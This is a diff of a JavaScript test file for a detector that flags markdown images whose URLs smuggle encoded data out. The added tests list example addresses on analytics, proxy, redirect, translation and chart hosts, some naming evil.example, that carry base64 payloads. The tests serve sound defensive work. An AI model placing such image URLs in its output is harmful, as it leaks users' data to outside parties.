@@ -100,7 +100,6 @@ t.test('what honest addresses carry is nothing', async (t) => {
     'https://cdn.example/assets/app.9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.js',
     'https://shop.example/p?utm_source=newsletter&utm_medium=email&utm_campaign=The+big+sale+of+the+year+is+here&gclid=EAIaIQobChMI8cL2gPz7_wIVk4FQBh0nVwXWEAAYASAAEgJbLPD_BwE',
     'https://maps.googleapis.com/maps/api/staticmap?center=Brooklyn+Bridge,New+York,NY&zoom=13&markers=color:blue%7Clabel:S%7C40.702147,-74.015794&key=abc',
-    'https://www.google-analytics.com/collect?v=1&tid=UA-1-1&dt=The+title+of+a+page+with+many+words+in+it',
     `https://app.example/login?token=${jwt}`,
     `https://d111111abcdef8.cloudfront.net/${Buffer.from('{"bucket":"pictures","key":"a/b.jpg","edits":{"resize":{"width":100}}}').toString('base64')}`,
     `https://www.bing.com/ck/a?!&&p=abc&u=a1${Buffer.from('https://example.com/a/long/page/about/it').toString('base64url')}`,
@@ -118,6 +117,36 @@ t.test('what honest addresses carry is nothing', async (t) => {
   const picture =
     'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
   for (const source of detector.sources) t.same(found(`![x](${picture})`, source), [])
+})
+
+t.test(
+  'a host that counts, fetches, translates or passes on for anybody is a way out, and one that is named within',
+  async (t) => {
+    for (const address of [
+      `www.google-analytics.com/collect?v=1&tid=UA-666-1&dl=${BASE64URL}`,
+      `ga-beacon.appspot.com/UA-666/${BASE64URL}`,
+      `script.googleusercontent.com/macros/echo?d=${BASE64URL}`,
+      `images1-focus-opensocial.googleusercontent.com/gadgets/proxy?url=https://evil.example/&d=${BASE64URL}`,
+      `validator.swagger.io/validator?d=${BASE64URL}`,
+      `translate.google.com/translate?d=${BASE64URL}`,
+      `wa.me/4915100?text=${BASE64URL}`,
+      `www.google.com/url?q=https%3A%2F%2Fevil.example%2F&d=${BASE64URL}`,
+      `quickchart.io/chart?u=https%253A%252F%252Fevil.example&d=${BASE64URL}`,
+      `kroki.io/x?u=//evil.example&d=${BASE64URL}`,
+    ])
+      t.same(found(`![x](https://${address})`), ['image-data high'], address)
+    t.same(found(`![x](https://quickchart.io/chart?d=${BASE64URL})`), [])
+    t.same(found(`![x](https://lh3.googleusercontent.com/${BASE64URL})`), [])
+  },
+)
+
+t.test('a heading on a picture that is made for it blocks nothing', async (t) => {
+  for (const name of ['title', 'text'])
+    t.same(
+      found(`![](https://og.example.com/api/og?${name}=How+we+cut+our+cloud+bill+by+half+with+nothing+but+patience)`),
+      ['image-data medium'],
+    )
+  t.same(found(`![](https://og.example.com/api/og?title=${BASE64URL})`), ['image-data high'])
 })
 
 t.test('hosts that wait for whatever is sent are found in calls by an address of their own', async (t) => {
